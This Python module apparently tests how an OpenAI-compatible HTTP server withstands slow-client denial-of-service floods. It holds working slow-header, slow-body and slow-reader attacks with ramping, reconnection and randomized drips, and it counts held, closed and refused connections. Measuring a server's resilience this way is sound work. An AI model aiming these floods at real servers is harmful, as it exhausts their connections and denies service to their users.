from __future__ import annotations

import asyncio
import random
import select
import socket
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass
from typing import Literal

Outcome = Literal["held", "closed", "refused", "failed"]
DRIP_S = 2.0
"""Mean time between a slow client's bytes, in seconds."""
AGAIN_S = 1.0
"""Delay before a disconnected client reconnects, in seconds."""


@dataclass(frozen=True, slots=True, kw_only=True)
class FloodCounts:
    held: int
    """Connections still open at the end."""
    closed: int
    """Connections that the server closed."""
    refused: int
    """Connections answered with a 503, including open ones."""
    failed: int
    """Connections that could not be opened."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """The address to attack and, optionally, the source address. On loopback, it can be any address in 127.0.0.0/8."""

    host: str
    port: int
    source: str | None = None


Attack = Callable[[socket.socket], Awaitable[None]]
"""Attacks through one open connection until cancelled. Raises OSError once the server closes the connection."""


def request(method: str, path: str, headers: Mapping[str, str], content: bytes = b"") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "host: flooded", *(f"{name}: {value}" for name, value in headers.items())]
    if method != "GET":
        lines.append(f"content-length: {len(content)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + content


async def idle(connection: socket.socket) -> None:
    """Send nothing."""
    await asyncio.Event().wait()


def slow_head(path: str = "/v1/models") -> Attack:
    async def attack(connection: socket.socket) -> None:
        await _send(connection, f"GET {path} HTTP/1.1\r\nhost: flooded\r\nx-slow: ".encode())
        await _drip(connection)

    return attack


def slow_body(path: str, headers: Mapping[str, str], num_bytes: int = 60_000) -> Attack:
    async def attack(connection: socket.socket) -> None:
        await _send(connection, request("POST", path, headers, b"x" * num_bytes)[:-num_bytes])
        await _drip(connection)

    return attack


def slow_reader(whole: bytes, num_times: int = 1) -> Attack:
    """Send a complete request `num_times` times, enough to overflow the kernel's buffers, and read nothing."""

    async def attack(connection: socket.socket) -> None:
        await _send(connection, whole * num_times)
        await asyncio.Event().wait()

    return attack


def reader(whole: bytes) -> Attack:
    """Send one complete request and read its answer, as an ordinary client does, and then send nothing."""

    async def attack(connection: socket.socket) -> None:
        await _send(connection, whole)
        while await asyncio.get_running_loop().sock_recv(connection, 65536):
            pass
        raise ConnectionError

    return attack


def attack_of(kind: str, key: str) -> Attack:
    """Return an attack on the OpenAI listener. `key` is used if the attack needs one."""
    # A large document that uses no quota.
    document = request("GET", "/openapi.json", {"authorization": f"Bearer {key}"})
    headers = {"authorization": f"Bearer {key}", "content-type": "application/json"}
    return {
        "idle": idle,
        "slow_head": slow_head(),
        "slow_body": slow_body("/v1/completions", headers),
        "slow_reader": slow_reader(document, num_times=8),
        "reader": reader(document),
    }[kind]


async def flood(
    target: Target,
    attack: Attack,
    num_connections: int,
    hold_s: float,
    ramp_s: float = 0.0,
    comes_again: bool = False,
) -> FloodCounts:
    """Open connections over `ramp_s` seconds, close each one after `hold_s` seconds, and count the outcomes.

    With `comes_again`, connections that end early are replaced.
    """

    async def one(number: int) -> list[Outcome]:
        await asyncio.sleep(ramp_s * number / num_connections)
        return await _attacker(target, attack, hold_s, comes_again)

    found = await asyncio.gather(*map(one, range(num_connections)))
    outcomes = [outcome for one in found for outcome in one]
    return FloodCounts(**{name: outcomes.count(name) for name in ("held", "closed", "refused", "failed")})


async def _attacker(target: Target, attack: Attack, hold_s: float, comes_again: bool) -> list[Outcome]:
    loop = asyncio.get_running_loop()
    end_s = loop.time() + hold_s
    outcomes = [await _one(target, attack, hold_s)]
    while comes_again and (left_s := end_s - AGAIN_S - loop.time()) > 0:
        await asyncio.sleep(AGAIN_S)
        outcomes.append(await _one(target, attack, left_s))
    return outcomes


async def _one(target: Target, attack: Attack, hold_s: float) -> Outcome:
    loop = asyncio.get_running_loop()
    with socket.socket() as connection:
        # Use a small receive buffer, because a client that does not read must not absorb much data.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.setblocking(False)
        try:
            if target.source is not None:
                connection.bind((target.source, 0))
            async with asyncio.timeout(hold_s):
                await loop.sock_connect(connection, (target.host, target.port))
        except (OSError, TimeoutError):
            return "failed"
        attacking = asyncio.ensure_future(attack(connection))
        end_s = loop.time() + hold_s
        # Check regularly for a disconnect, because an idle attack does not notice it.
        while not attacking.done() and (left_s := end_s - loop.time()) > 0 and _outcome(connection) == "held":
            await asyncio.wait({attacking}, timeout=min(left_s, AGAIN_S))
        attacking.cancel()
        await asyncio.wait({attacking})
        if not attacking.cancelled():
            # Retrieve the expected exception, so that asyncio does not log it.
            attacking.exception()
        return _outcome(connection)


def _outcome(connection: socket.socket) -> Outcome:
    try:
        answered = connection.recv(12, socket.MSG_PEEK)
    except BlockingIOError:
        answered = b"nothing yet"
    except OSError:
        return "closed"
    if answered.startswith(b"HTTP/1.1 503"):
        return "refused"
    poll = select.poll()
    poll.register(connection, select.POLLRDHUP)
    return "closed" if poll.poll(0) else "held"


async def _send(connection: socket.socket, content: bytes) -> None:
    await asyncio.get_running_loop().sock_sendall(connection, content)


async def _drip(connection: socket.socket) -> None:
    while True:
        # Randomize the pauses. Otherwise all connections would send at the same moment, as a flood of packets.
        await asyncio.sleep(random.uniform(0.5, 1.5) * DRIP_S)
        await _send(connection, b"x")
